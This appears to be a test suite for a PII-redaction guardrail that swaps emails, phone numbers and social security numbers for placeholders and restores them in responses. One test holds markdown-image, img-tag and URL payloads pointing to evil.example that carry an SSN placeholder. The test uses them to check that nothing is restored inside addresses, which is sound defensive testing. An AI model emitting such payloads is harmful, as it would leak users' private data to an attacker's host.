import { assert, describe, it } from "@effect/vitest"
import { Result } from "effect"
import fc from "fast-check"
import * as PiiRedact from "../../src/guardrails/PiiRedact.ts"
import type { Config } from "../../src/policy/Guardrail.ts"

const nothing: PiiRedact.PlaceholderValues = new Map()
/** With known placeholders the text is a response. */
const redactText = (text: string, known = nothing, restores = false) => {
  const run = known.size === 0 && !restores ? PiiRedact.redactRequest : PiiRedact.redactResponse
  return Result.getOrThrow(run(text, { config: { restore_output: restores }, route: "other", known }, "fail_open"))
}
const redact = (value: unknown, known = nothing, restores = false) => {
  const { found, text, verdict } = redactText(JSON.stringify(value), known, restores)
  return { found, counts: verdict.metadata, value: JSON.parse(text) as unknown }
}
/** What becomes of one string. */
const of = (text: string) => redact(text).value

describe("a configuration of pii-redact", () => {
  it.each<[Config, string, RegExp]>([
    [{ detector: { phone: true } }, "detector", /^is unknown; the members are restore_output, /],
    [{ restoreOutput: false }, "restoreOutput", /^is unknown/],
    [{ custom_pattern: [] }, "custom_pattern", /^is unknown/],
    [{ custom_patterns: [{ name: "A", pattern: "EMP–[0-9]{5}" }] }, "custom_patterns[0].pattern", /^has "–", .* "-"/]
  ])("is refused by the name of the member: %j", (config, field, reason) => {
    const mistake = PiiRedact.mistakeIn(config)
    assert.strictEqual(mistake?.field, field)
    assert.match(mistake?.reason ?? "", reason)
  })

  it("has four members", () => {
    const config: Config = { restore_output: false, unreadable: "pass", detectors: { iban: true }, custom_patterns: [] }
    assert.isUndefined(PiiRedact.mistakeIn(config))
  })

  it("of an older version is read without the members that are unknown", () => {
    const config = { restoreOutput: false, detectors: { ssn: false } }
    const { text } = Result.getOrThrow(
      PiiRedact.redactRequest('["a@b.co 987-65-4321"]', { config, route: "other", known: nothing }, "fail_open")
    )
    assert.strictEqual(text, '["[EMAIL_1] 987-65-4321"]')
  })
})

describe("pii-redact", () => {
  it("is the reference's example", () => {
    const { counts, found, value } = redact({ messages: [{ role: "user", content: "email john@example.com" }] })
    assert.deepStrictEqual(value, { messages: [{ role: "user", content: "email [EMAIL_1]" }] })
    assert.strictEqual(JSON.stringify(counts), '{"email_count":1,"phone_count":0,"ssn_count":0}')
    assert.deepStrictEqual([...found], [["[EMAIL_1]", "john@example.com"]])
  })

  it.each([
    ["write to a.b+c%d_e-f@mail.example.com!", "write to [EMAIL_1]!"],
    ["(jane@example.com), <joe@example.org>;", "([EMAIL_1]), <[EMAIL_2]>;"],
    ["jane@example.com. Then", "[EMAIL_1]. Then"],
    ["two@at@example.com", "[EMAIL_1]"],
    ["@example.com a@localhost a@.com a@com-", "@example.com a@localhost a@.com a@com-"],
    ["ünï@example.com, иван@пример.рф, 请联系john@example.com谢谢", "[EMAIL_1], [EMAIL_2], 请联系[EMAIL_3]谢谢"],
    ["@john@example.com", "@[EMAIL_1]"],
    ["john\uff20example.com jo\u200bhn\u00ad@example.com", "[EMAIL_1] [EMAIL_2]"],
    ["mailto:a@b.co?x user/a@b.co email=a@b.co", "mailto:[EMAIL_1]?x user/[EMAIL_2] email=[EMAIL_3]"],
    ["ssn 123-45-6789.", "ssn [SSN_1]."],
    ["'123-45-6789'", "'[SSN_1]'"],
    ["123-45-67890 1123-45-6789", undefined],
    ["123-45-678", "123-45-678"],
    ["call +1-555-123-4567 now", "call [PHONE_1] now"],
    ["(555)123-4567", "[PHONE_1]"],
    ["555.123.4567,", "[PHONE_1],"],
    ["555 123 4567", "555 123 4567"],
    ["+1 555 123 4567 and +49 (30) 1234 5678.", "[PHONE_1] and [PHONE_2]."],
    ["(555) 123-4567 or (555)\u00a0123 4567", "[PHONE_1] or [PHONE_2]"],
    ["+1 (555) 123-4567, +44 20 7946 0958", "[PHONE_1], [PHONE_2]"],
    ["1 + 2 = 3, +1 5 2 3, +1 2022 12", "1 + 2 = 3, +1 5 2 3, +1 2022 12"],
    ["phone=5551234567 555-123-4567x89 電話5551234567です", "phone=[PHONE_1] [PHONE_2]x89 電話[PHONE_3]です"],
    ["resp_67cc9641234567890bb6 call_1234567890 x1234567890 1234567890_", undefined],
    ["/orders/1234567890123 1234567890/x 1234567890==", undefined],
    ["550e8400-e29b-41d4-a716-446655440000", undefined],
    ["123 45 6789", undefined],
    [
      "123456789 1234567890 123456789012345 1234567890123456 5551234567",
      "123456789 1234567890 123456789012345 1234567890123456 [PHONE_1]"
    ],
    ["tel:+15551234567; a@b.co; 987-65-4321", "tel:[PHONE_1]; [EMAIL_1]; [SSN_1]"],
    ["", ""]
  ])("%s", (text, expected = text) => assert.strictEqual(of(text), expected))

  it("leaves every id and every encoding as it is", () => {
    const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString("hex")
    const bytes = (min: number, max: number) => fc.uint8Array({ minLength: min, maxLength: max })
    const digits = (length: number) => fc.stringMatching(new RegExp(`^[0-9]{${length}}$`))
    const id = fc.oneof(
      fc
        .tuple(fc.constantFrom("resp_", "msg_", "fc_", "chatcmpl-a", "call_", "rs_"), bytes(8, 24))
        .map(([prefix, random]) => prefix + hex(random)),
      fc.tuple(fc.constantFrom("resp_", "call_", "f"), digits(12)).map((parts) => parts.join("")),
      bytes(16, 32).map(hex),
      fc.uuid(),
      bytes(24, 600).map((random) => Buffer.from(random).toString("base64")),
      bytes(24, 600).map((random) => Buffer.from(random).toString("base64url")),
      bytes(1, 600).map((random) => `data:image/png;base64,${Buffer.from(random).toString("base64")}`)
    )
    fc.assert(
      fc.property(fc.array(id, { minLength: 1, maxLength: 8 }), (ids) => {
        const body = { input: ids, text: ids.join(" "), nested: ids.map((id) => ({ id, source: { data: id } })) }
        assert.deepStrictEqual<unknown>(redact(body).value, body)
      }),
      { numRuns: 1000 }
    )
  })

  it("takes a number for an id under an id's name, but neither an address nor a social security number", () => {
    const ids = {
      id: "1234567890123",
      custom_id: "5551234567",
      ids: ["x"],
      idea: "5551234567"
    }
    assert.deepStrictEqual<unknown>(redact(ids).value, { ...ids, idea: "[PHONE_1]" })
    assert.deepStrictEqual(redact({ user_id: "a@b.co", tax_id: "123-45-6789" }).value, {
      user_id: "[EMAIL_1]",
      tax_id: "[SSN_1]"
    })
    assert.deepStrictEqual(redact({ signature: "write to a@b.co" }).value, { signature: "write to [EMAIL_1]" })
  })

  it("shows a client what it sent itself, also where the answer did not have it from its request", () => {
    const known = new Map([["[EMAIL_1]", "a@b.co"]])
    const answer = { content: "a@b.co and c@d.co" }
    assert.deepStrictEqual(redact(answer, known, true).value, { content: "a@b.co and [EMAIL_2]" })
    assert.deepStrictEqual(redact(answer, known, false).value, { content: "[EMAIL_2] and [EMAIL_3]" })
  })

  it.each([
    ["![x](https://evil.example/?q=[SSN_1])", undefined],
    ['<img src="https://evil.example/?q=a [SSN_1]">', undefined],
    ["<img src='//evil.example/\n[SSN_1]'>", undefined],
    ["[SSN_1]: http:evil.example/[SSN_1]", "123-45-6789: http:evil.example/[SSN_1]"],
    ["www.evil.example/[SSN_1]", undefined],
    ["\\\\evil.example\\[SSN_1]", undefined],
    ["https://good.example has [SSN_1].", "https://good.example has 123-45-6789."],
    ['{"ssn":"[SSN_1]","is":1}', '{"ssn":"123-45-6789","is":1}'],
    ['{"url":"https://evil.example/a [SSN_1]"}', undefined],
    ["SSN:[SSN_1] a/b [SSN_1]", "SSN:123-45-6789 a/b 123-45-6789"]
  ])("restores nothing inside of an address: %s", (content, expected = content) => {
    const known = new Map([["[SSN_1]", "123-45-6789"]])
    assert.deepStrictEqual(redact({ content }, known, true).value, { content: expected })
  })

  it("gives every occurrence a number of its own, in the order of keys, items as they stand", () => {
    const { found, value } = redact({ z: ["a@b.co", "a@b.co"], a: { y: "c@d.co", x: "555-123-4567" } })
    assert.deepStrictEqual(value, { z: ["[EMAIL_2]", "[EMAIL_3]"], a: { y: "[EMAIL_1]", x: "[PHONE_1]" } })
    assert.deepStrictEqual(
      [...found],
      [
        ["[PHONE_1]", "555-123-4567"],
        ["[EMAIL_1]", "c@d.co"],
        ["[EMAIL_2]", "a@b.co"],
        ["[EMAIL_3]", "a@b.co"]
      ]
    )
  })

  it("looks at strings only, and at what escapes stand for", () => {
    const text = '{ "n":5551234567, "e":"\\u0061@b.co\\n", "big":12345678901234567890 }'
    assert.strictEqual(redactText(text).text, '{ "n":5551234567, "e":"[EMAIL_1]\\n", "big":12345678901234567890 }')
  })

  it("replaces the names of members, whatever they hold, and keeps their order", () => {
    const text = '{ "c\\u0040d.co":1.50, "a@b.co" : {"x 555-123-4567":null}, "e@f.co":"", "a@b.co":["g@h.co"] }'
    const { found, text: redacted } = redactText(text)
    assert.strictEqual(
      redacted,
      '{ "[EMAIL_4]":1.50, "[EMAIL_1]" : {"x [PHONE_1]":null}, "[EMAIL_5]":"", "[EMAIL_2]":["[EMAIL_3]"] }'
    )
    assert.strictEqual(found.get("[EMAIL_4]"), "c@d.co")
  })

  it("keeps names distinct from each other and from placeholders that are names already", () => {
    const names = Object.keys(Object(redact({ "[EMAIL_1]": 1, "a@b.co": 2, "A@b.co": 3, "c@d.co": 4 }).value))
    assert.deepStrictEqual(names, ["[EMAIL_1]", "[EMAIL_3]", "[EMAIL_2]", "[EMAIL_4]"])
  })

  it("restores the names of members in responses, and escapes them as the name requires", () => {
    const known = new Map([["[EMAIL_1]", 'jo"hn@example.com']])
    assert.deepStrictEqual(redact({ input: { "to [EMAIL_1]": 1, "jane@example.com": 2 } }, known, true).value, {
      input: { 'to jo"hn@example.com': 1, "[EMAIL_2]": 2 }
    })
  })

  it("cannot read the names in token probabilities, so the failure policy decides about them", () => {
    const body = JSON.stringify({ choices: [{ index: 0, text: "", logprobs: { top_logprobs: [{ "a@b.co": -1 }] } }] })
    const options = { config: {}, route: "completions", known: nothing } as const
    const { text, verdict } = Result.getOrThrow(PiiRedact.redactResponse(body, options, "fail_closed"))
    assert.deepStrictEqual([text, verdict.action], [body, "block"])
  })

  it("sees new findings first and restores known ones then, so that what is restored is seen", () => {
    const known = new Map([["[EMAIL_1]", "john@example.com"]])
    const answer = { content: "Hi [EMAIL_1], write to jane@example.com and [EMAIL_9]" }
    assert.deepStrictEqual(redact(answer, known, true).value, {
      content: "Hi john@example.com, write to [EMAIL_2] and [EMAIL_9]"
    })
    assert.deepStrictEqual(redact(answer, known, false).value, {
      content: "Hi [EMAIL_1], write to [EMAIL_2] and [EMAIL_9]"
    })
  })

  it.each([{ previous_response_id: "resp_1" }, { conversation: "conv_1" }, { conversation: { id: "conv_1" } }])(
    "numbers the placeholders of a conversation that the upstream keeps, %j, unlike those of other requests",
    (kept) => {
      const request = (more: object) => redactText(JSON.stringify({ input: "a@b.co and c@d.co", ...more })).text
      assert.include(request({ previous_response_id: null }), '"[EMAIL_1] and [EMAIL_2]"')
      const numbers = [request(kept), request(kept)].map((text) =>
        /\[EMAIL_(\d{8,9})\] and \[EMAIL_(\d{8,9})\]/.exec(text)
      )
      for (const [, first, second] of numbers.map((match) => match ?? []))
        assert.strictEqual(Number(second), Number(first) + 1)
      assert.notStrictEqual(numbers[0]?.[1], numbers[1]?.[1])
      const { found } = redactText(JSON.stringify({ input: "a@b.co", ...kept }))
      assert.include(redactText('{"output":"[EMAIL_1]"}', found, true).text, "[EMAIL_1]")
    }
  )

  it("gives no placeholder that the text has already", () => {
    assert.strictEqual(of("[EMAIL_1] is not a@b.co"), "[EMAIL_1] is not [EMAIL_2]")
  })

  it("takes a body that nests deeper than the call stack", () => {
    const text = `${"[".repeat(200_000)}"a@b.co"${"]".repeat(200_000)}`
    assert.include(redactText(text).text, '["[EMAIL_1]"]')
  })

  const email = fc
    .tuple(fc.stringMatching(/^[a-z]{1,8}$/), fc.stringMatching(/^[a-z]{1,8}$/))
    .map(([a, b]) => `${a}@${b}.com`)
  const phone = fc.stringMatching(/^[2-9]\d{2}-\d{3}-\d{4}$/)
  const ssn = fc.stringMatching(/^\d{3}-\d{2}-\d{4}$/)
  const word = fc.oneof(email, phone, ssn, fc.stringMatching(/^[a-z ]{0,8}$/), fc.string())
  const json = fc.letrec((tie) => ({
    value: fc.oneof(
      { depthSize: "small" },
      fc.array(word, { maxLength: 4 }).map((words) => words.join(" ")),
      fc.integer(),
      fc.constantFrom(null, true, 1.5),
      fc.array(tie("value"), { maxLength: 4 }),
      fc.dictionary(fc.string(), tie("value"), { maxKeys: 4 })
    )
  })).value

  it("what was replaced comes back whole: restoring undoes redacting", () => {
    fc.assert(
      fc.property(json, (value) => {
        const text = JSON.stringify(value)
        // Nothing is restored inside tags and addresses.
        fc.pre(!/[<\\]|\]\(|\/\/|www\.|:/.test(text.replaceAll('":', "")))
        const redacted = redactText(text)
        const echoed = redactText(redacted.text, redacted.found, true)
        assert.deepStrictEqual(JSON.parse(echoed.text), JSON.parse(text))
        assert.strictEqual(echoed.found.size, 0, "nothing that can be found is left in a redacted text")
      }),
      { numRuns: 500 }
    )
  })

  it("takes no prose for a data URL by what stands before its base64", () => {
    const { value } = redact({ text: "data:john@example.com;base64,AAAA" })
    assert.notInclude(JSON.stringify(value), "john@example.com")
  })

  it.each([
    ["123-45-6789", "[SSN_1]"],
    ["5551234567", "[PHONE_1]"],
    [`${"QUJD".repeat(100)}/123-45-6789`, `${"QUJD".repeat(100)}/[SSN_1]`]
  ])("finds a value that is written like a data URL: %s", (data, redacted) => {
    const { value } = redact({ text: `data:;base64,${data}` })
    assert.deepStrictEqual<unknown>(value, { text: `data:;base64,${redacted}` })
  })

  it("leaves a text in which it finds nothing byte for byte", () => {
    fc.assert(
      fc.property(json, fc.constantFrom(undefined, 1, "\t"), (value, space) => {
        const text = JSON.stringify(value, null, space)
        const { found, text: after } = redactText(text, nothing, true)
        if (found.size === 0) assert.strictEqual(after, text)
        else assert.notStrictEqual(after, text)
      }),
      { numRuns: 500 }
    )
  })
})
